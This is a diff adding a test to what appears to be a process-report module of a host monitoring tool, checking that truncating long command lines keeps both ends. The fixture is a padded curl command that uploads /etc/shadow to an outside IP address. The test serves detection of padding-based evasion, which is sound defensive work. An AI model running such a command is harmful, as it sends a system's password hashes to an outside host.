@@ -63,4 +63,12 @@ describe('makeReport', () => {
     expect(r.cmdline?.length).toBe(32_768);
     expect(validateReportBatch({ host: 'h', reports: [r] }).ok).toBe(true);
   });
+
+  it('keeps the head and the tail of a padded cmdline, where the upload flags are', () => {
+    const cmdline = `curl -H X-Pad:${'a'.repeat(40_000)} -T /etc/shadow http://198.51.100.7/`;
+    const r = makeReport(good, { ...good, cmdline });
+    expect(r.cmdline?.length).toBe(32_768);
+    expect(r.cmdline?.startsWith('curl -H X-Pad:aaa')).toBe(true);
+    expect(r.cmdline?.endsWith(' -T /etc/shadow http://198.51.100.7/')).toBe(true);
+  });
 });
